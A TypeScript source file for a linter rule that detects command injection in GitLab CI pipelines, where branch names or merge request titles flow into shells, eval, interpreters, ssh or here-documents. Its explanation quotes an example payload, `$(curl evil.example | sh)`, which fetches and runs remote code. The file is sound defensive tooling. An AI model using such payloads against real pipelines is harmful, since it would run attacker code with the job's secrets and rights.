import { z } from 'zod';
import type { Job } from '../ci/config.ts';
import { runnerJobs } from '../ci/runner-jobs.ts';
import type { CommandWord, JobCommand, ScriptPlace } from '../shell/job-command.ts';
import { toldToSsh } from '../shell/ssh-words.ts';
import { type Located, Location } from '../source.ts';
import type { HitDraft } from './judging/hit.ts';
import { inCommands } from './judging/in-commands.ts';
import { USER_VARIABLES, userVariableIn } from './judging/user-variables.ts';
import { defineRule, type RuleContext } from './rule.ts';

const messages = {
  argument: '{value} is part of a text that {program} runs as commands.',
  input:
    'GitLab itself puts {value} into the script, by way of {input}, so it becomes part of the commands before any shell sees it.',
  document: '{value} is part of a here-document that {program} runs as commands.',
} as const;

type Context = RuleContext<typeof messages>;

export const variableInjection = defineRule({
  id: 'variable-injection',
  summary: 'Text that any contributor can choose becomes part of a command.',
  why: 'A branch name or title such as `$(curl evil.example | sh)` then runs in the job, with its variables and its rights.',
  fix: 'Pass the value as an argument: `bash -c \'… "$1"\' _ "$CI_COMMIT_REF_NAME"`.',
  blindSpots:
    'Only shells, `eval`, interpreters that are given a program as an argument, here-documents that a shell runs and what ssh, `kubectl exec` and the like run elsewhere are checked, not databases or scripts of the repository. Inputs are followed only where `expand_vars` puts them into a script.',
  keywords: ['before_script', 'script', 'after_script', 'hooks:pre_get_sources_script', 'run', 'include:inputs'],
  level: 'warning',
  source: 'https://docs.gitlab.com/ci/pipeline_security/',
  examples: {
    bad: [
      { yaml: 'say:\n  script:\n    - bash -c "echo $CI_COMMIT_TITLE"\n' },
      { yaml: 'say:\n  variables: {TITLE: $CI_MERGE_REQUEST_TITLE}\n  script:\n    - eval "echo $TITLE"\n' },
    ],
    good: [
      { yaml: `say:\n  script:\n    - bash -c 'echo "$1"' _ "$CI_COMMIT_TITLE"\n    - echo "$CI_COMMIT_TITLE"\n` },
    ],
  },
  options: z.strictObject({}),
  messages,
  *check(config, _options, context) {
    for (const job of runnerJobs(config)) {
      for (const line of job.scripts.flatMap((script) => script.lines.filter(hasInputs))) {
        yield* expandedInputs(job, line, context);
      }
      for (const { at, message, values, because } of injectionsIn(job)) {
        yield context.hit(job, at, message, values).because(...because);
      }
    }
  },
});

interface Injection {
  readonly at: ScriptPlace;
  readonly message: 'argument' | 'document';
  readonly values: { readonly value: string; readonly program: string };
  readonly because: readonly Located<string>[];
}

const injectionsIn = inCommands((command) => [...runWords(command), ...runDocuments(command)]);

/** Variables in the words that a command reads as commands of their own. */
function* runWords(command: JobCommand): Iterable<Injection> {
  for (const word of [...runTexts(command), ...pipedTexts(command)]) {
    const name = injectedName(word);
    if (name === null) continue;
    const values = { value: `$${name}`, program: command.name };
    yield { at: word.at, message: 'argument', values, because: word.from };
  }
}

/** Variables in the here-documents that a shell runs. */
function* runDocuments(command: JobCommand): Iterable<Injection> {
  if (!SHELLS.has(command.name) || !command.runsText) return;
  for (const document of [command, ...command.from].flatMap((feeder) => feeder.hereDocuments)) {
    const name = document.quoted ? null : userVariableIn(document.text.replaceAll(/\\$/g, ''));
    if (name === null) continue;
    const start = Math.max(0, document.text.indexOf(name));
    const at = document.locate({ start, end: start + name.length });
    yield { at, message: 'document', values: { value: `$${name}`, program: command.name }, because: [] };
  }
}

function hasInputs({ via }: Located<string>): boolean {
  return via.some(({ by }) => by === 'input');
}

/** `$[[ inputs.x | expand_vars ]]` in a script, with an input that names such a variable. */
function* expandedInputs(job: Job, line: Located<string>, { hit }: Context): Iterable<HitDraft> {
  for (const { by, at: given, name: input } of line.via) {
    if (by !== 'input' || !/\|\s*expand_vars\b/.test(input)) continue;
    const name = userVariableIn(given.text) ?? userVariableIn(line.at.text);
    if (name === null) continue;
    const offset = line.at.text.indexOf(input);
    const start = line.at.start + offset;
    const at = offset === -1 ? line.at : new Location(line.at.file, start, start + input.length);
    yield hit(job, { ...line, at }, 'input', { value: `$${name}`, input }).because(given);
  }
}

const SHELLS = new Set(['sh', 'bash', 'ash', 'dash', 'zsh', 'ksh']);

/** Programs that run a text, and the option before it. */
const INTERPRETERS: readonly (readonly [program: RegExp, option: RegExp])[] = [
  [/^(?:sh|bash|ash|dash|zsh|ksh|su)$/, /^(?:-[a-z]*c|--command)$/],
  [/^(?:pwsh|powershell)$/i, /^-c(?:ommand)?$/i],
  [/^python[\d.]*$/, /^-[a-zA-Z]*c$/],
  [/^(?:node|bun)$/, /^(?:-[ep]+|--eval|--print)$/],
  [/^(?:perl|ruby)$/, /^-[a-zA-Z]*[eE]$/],
  [/^php$/, /^-r$/],
];

/** The words that a command reads as commands of their own. */
function runTexts({ name, words }: Pick<JobCommand, 'name' | 'words'>): readonly CommandWord[] {
  if (/^(?:eval|iex|invoke-expression)$/i.test(name)) return words.slice(1);
  const elsewhere = runElsewhere(name, words);
  if (elsewhere) return elsewhere;
  if (/^[gmn]?awk$/.test(name)) return awkProgram(words.slice(1));
  const names = INTERPRETERS.find(([program]) => program.test(name))?.[1];
  const option = names ? words.findIndex((word, index) => index > 0 && names.test(word.text)) : -1;
  const script = option === -1 ? undefined : words[option + 1];
  return script ? [script] : [];
}

/** What the shell of another machine, or a program in another container, is given; null: the command runs here. */
function runElsewhere(name: string, words: readonly CommandWord[]): readonly CommandWord[] | null {
  switch (name) {
    case 'ssh':
      return toldToSsh(words)?.command ?? [];
    case 'kubectl':
    case 'oc': {
      const dashes = words.findIndex(({ text }) => text === '--');
      const inside = dashes === -1 ? [] : words.slice(dashes + 1);
      return runTexts({ name: inside[0]?.text.replace(/.*\//, '') ?? '', words: inside });
    }
    case 'gcloud':
    case 'vagrant':
      return words.filter(
        ({ text }, index) => /^--command=/.test(text) || /^(?:-c|--command)$/.test(words[index - 1]?.text ?? ''),
      );
    default:
      return null;
  }
}

/** The first word that is neither an option nor the value of one, unless the program is in a file. */
function awkProgram(words: readonly CommandWord[]): readonly CommandWord[] {
  if (words.some(({ text }) => /^(?:-f|--file)/.test(text))) return [];
  const at = words.findIndex(
    ({ text }, index) => !text.startsWith('-') && !/^-[vF]$/.test(words[index - 1]?.text ?? ''),
  );
  return words.slice(at, at + 1);
}

/** `echo … | sh`: what is said becomes the commands. */
function pipedTexts({ name, words, from }: JobCommand): readonly CommandWord[] {
  const readsInput =
    SHELLS.has(name) && words.slice(1).every((word) => /^-[a-z]*$/.test(word.text) && !word.text.includes('c'));
  if (!readsInput) return [];
  return from.flatMap((feeder) => (/^(?:echo|printf)$/.test(feeder.name) ? feeder.words.slice(1) : []));
}

/** A variable that the outer shell puts in: by name, or in the value of one that it puts in. */
function injectedName(word: CommandWord): string | null {
  return word.names.find((name) => USER_VARIABLES.has(name)) ?? null;
}
